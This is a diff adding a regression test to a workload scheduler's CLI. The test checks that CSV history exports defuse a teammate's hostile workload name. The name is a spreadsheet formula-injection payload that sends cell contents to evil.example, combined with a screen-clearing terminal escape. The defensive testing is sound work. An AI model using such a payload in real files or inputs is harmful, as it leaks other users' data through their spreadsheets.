@@ -30,3 +30,37 @@ def test_a_statement_until_the_last_representable_day_is_a_400(researcher_client
     assert response.status_code == 400, response.content[:300]
     assert response.json()["code"] == "invalid_date"
     assert "until" in response.json()
+
+
+def test_history_csv_does_not_hand_a_spreadsheet_another_users_formula(
+    researcher, teammate, cluster, submit_kwargs, monkeypatch, django_capture_on_commit_callbacks
+):
+    """A teammate names a workload ``=HYPERLINK(...)`` with a terminal escape in it; the researcher's
+    ``fairway history --csv`` wrote both raw: the spreadsheet ran the formula, the terminal the
+    escape. The cell is now text (a leading ``'``) and the escape shows as ``\\x1b``."""
+    import csv
+    import io
+    from datetime import timedelta
+
+    from django.utils import timezone
+
+    from scheduler import lifecycle
+    from scheduler.models import Attempt
+    from scheduler.services import do_submit_workload
+    from scheduler.tick import run_tick
+    from tests.cli.inprocess import run_cli
+
+    name = '=HYPERLINK("http://evil.example/?"&A1,"ok")\x1b[2J'
+    at = timezone.now().replace(microsecond=0)
+    with django_capture_on_commit_callbacks(execute=True):
+        w = do_submit_workload(teammate, **submit_kwargs(name=name, gpu_count=1), submitted_at=at - timedelta(hours=2))
+        run_tick(cluster.pk)
+        attempt = Attempt.objects.select_related("host").get(workload=w)
+        lifecycle.attempt_started(attempt.host, attempt.pk, now=at - timedelta(hours=1))
+        lifecycle.attempt_exited(attempt.host, attempt.pk, -9, now=at - timedelta(minutes=30))
+    text = run_cli(monkeypatch, researcher, "history", "--since", "7d", "--csv")
+    assert "\x1b" not in text
+    [record] = list(csv.DictReader(io.StringIO(text)))
+    assert record["name"] == "'" + name.replace("\x1b", "\\x1b")
+    assert record["owner"] == "teammate"
+    assert record["exit_code"] == "-9"  # a number stays a number
